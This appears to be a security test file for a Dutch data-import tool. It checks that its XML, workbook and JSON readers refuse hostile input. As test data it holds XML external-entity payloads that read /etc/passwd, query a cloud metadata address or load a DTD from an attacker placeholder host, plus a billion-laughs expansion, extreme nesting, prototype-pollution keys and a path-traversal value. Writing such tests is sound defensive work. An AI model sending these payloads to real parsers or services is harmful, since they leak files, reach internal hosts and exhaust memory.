import {inflateRawSync} from "node:zlib";
import {describe, expect, test} from "vitest";
import {readBorders} from "../../src/ingest/reference/read-borders.ts";
import {readSheets} from "../../src/ingest/sheet/read-sheets.ts";
import {unwrap} from "../../src/ingest/sources/envelope.ts";
import {readKoppeling} from "../../src/ingest/tables/koppeling.ts";
import {folderWith, importInto, startBericht} from "../berichten-on-disk.ts";
import {workbook} from "../workbook.ts";
import {zipOf} from "../zip-file.ts";

const xml = startBericht("B1").toString();

/** Texts that make a parser of XML that is not careful read a file, ask a host or fill the memory. */
const documentTypes: readonly [what: string, doctype: string][] = [
  ["a file of this machine", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
  ["a host", '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest">]>'],
  ["a document type of elsewhere", '<!DOCTYPE x SYSTEM "http://aanvaller.example/x.dtd">'],
  ["a parameter entity", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://aanvaller.example/x.dtd"> %p;]>'],
  [
    "a thousand million laughs",
    `<!DOCTYPE x [<!ENTITY a "ha">${[..."bcdefghijk"].map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghij"[at]};`.repeat(10)}">`).join("")}]>`,
  ],
];

describe.each(documentTypes)("XML that names %s", (_, doctype) => {
  test("as a Bericht is refused in one line", async () => {
    const hostile = xml.replace(/(<\?xml[^>]*\?>)?/, `$1${doctype}`).replace(/(<[\w:]*Identificatie>)[^<]*/, "$1&e;");
    const result = await importInto(folderWith(), [folderWith({"a.xml": hostile})]);
    expect(result).toMatchObject({ingenomen: 0, geweigerd: 1});
    expect(result.bevindingen.map(({tekst}) => tekst)).toEqual([expect.stringMatching(/DOCTYPE/)]);
  });

  test("as an envelope is refused in one line, as a Bericht that is none", async () => {
    const envelope = `<?xml version="1.0"?>${doctype}<Envelope><Bericht><Data>&k;</Data></Bericht></Envelope>`;
    expect(await unwrap(Buffer.from(envelope))).toBeNull();
    const result = await importInto(folderWith(), [folderWith({"a.xml": envelope})]);
    expect(result).toMatchObject({ingenomen: 0, geweigerd: 1});
    expect(result.bevindingen.map(({tekst}) => tekst)).toEqual([expect.stringMatching(/^[^\n]{10,250}[.?]$/)]);
  });

  test.each(["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml"])(
    "in %s of a workbook is not expanded",
    async (part) => {
      const began = performance.now();
      const reading = await readSheets(withDoctype(part, doctype), () => 1);
      expect(performance.now() - began).toBeLessThan(5000);
      expect(JSON.stringify(reading)).not.toMatch(/root:x:0|hahaha/);
    },
  );
});

function withDoctype(part: string, doctype: string): Buffer {
  const plain = workbook({
    team: {
      rows: [
        ["team_code", "naam"],
        ["T1", "Noord"],
      ],
    },
  });
  const parts: Record<string, string> = {};
  for (const [name, text] of Object.entries(partsOf(plain))) parts[name] = text;
  parts["xl/sharedStrings.xml"] ??= '<?xml version="1.0"?><sst><si><t>&k;</t></si></sst>';
  parts[part] = parts[part]!.replace(/\?>\s*/, `?>${doctype}`).replace("Noord", "&k;");
  return zipOf(parts);
}

/** What our own helper packed, taken apart again. */
function partsOf(zip: Buffer): Record<string, string> {
  const parts: Record<string, string> = {};
  for (let at = 0; zip.readUInt32LE(at) === 0x04034b50; ) {
    const packed = zip.readUInt32LE(at + 18);
    const name = zip.toString("utf8", at + 30, at + 30 + zip.readUInt16LE(at + 26));
    const start = at + 30 + zip.readUInt16LE(at + 26) + zip.readUInt16LE(at + 28);
    parts[name] = inflateRawSync(zip.subarray(start, start + packed)).toString("utf8");
    at = start + packed;
  }
  return parts;
}

describe("what is nested a hundred thousand deep ends in one line, and the process goes on", () => {
  const depth = 100_000;

  test("elements in a Bericht", async () => {
    const deep = xml.replace(/<\/[\w:]*Bericht>\s*$/, `${"<a>".repeat(depth)}${"</a>".repeat(depth)}$&`);
    const result = await importInto(folderWith(), [folderWith({"a.xml": deep, "b.xml": startBericht("GOED")})]);
    expect(result).toMatchObject({ingenomen: 1, geweigerd: 1});
  });

  test("elements in an envelope", async () => {
    const deep = `<Envelope>${"<a>".repeat(depth)}${"</a>".repeat(depth)}</Envelope>`;
    expect(await unwrap(Buffer.from(deep))).toMatchObject({problem: expect.any(String)});
  });

  test.each([
    ["lists", "[".repeat(depth) + "]".repeat(depth)],
    ["things in things", `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`],
  ])("%s in borders, in a koppeling and in the coordinates of a border", (_, json) => {
    expect(readBorders(Buffer.from(json))).toMatchObject({problem: expect.any(String)});
    expect(() => readKoppeling(json)).toThrow(/^De koppeling klopt niet/);
    const feature = `{"type":"FeatureCollection","features":[{"properties":{"gebied_code":"BU99990101"},"geometry":{"type":"Polygon","coordinates":${json}}}]}`;
    expect(readBorders(Buffer.from(feature))).toMatchObject({problem: expect.stringMatching(/^Vlak 1: /)});
  });
});

describe("a name that reaches for the prototype of all", () => {
  test.each([
    '{"versie":1,"bron":"x","soort":"leveringen","kolommen":{"__proto__":{"vast":"1"}}}',
    '{"versie":1,"bron":"x","soort":"leveringen","kolommen":{"constructor":{"vast":"1"}}}',
    '{"versie":1,"bron":"x","soort":"leveringen","__proto__":{"isAdmin":true},"kolommen":{}}',
    '{"versie":1,"bron":"x","soort":"leveringen","kop":"/../../x","kolommen":{}}',
  ])("%s is refused", (json) => {
    expect(() => readKoppeling(json)).toThrow(/^De koppeling klopt niet/);
    expect(({} as {isAdmin?: unknown}).isAdmin).toBeUndefined();
    expect(({} as {vast?: unknown}).vast).toBeUndefined();
  });
});
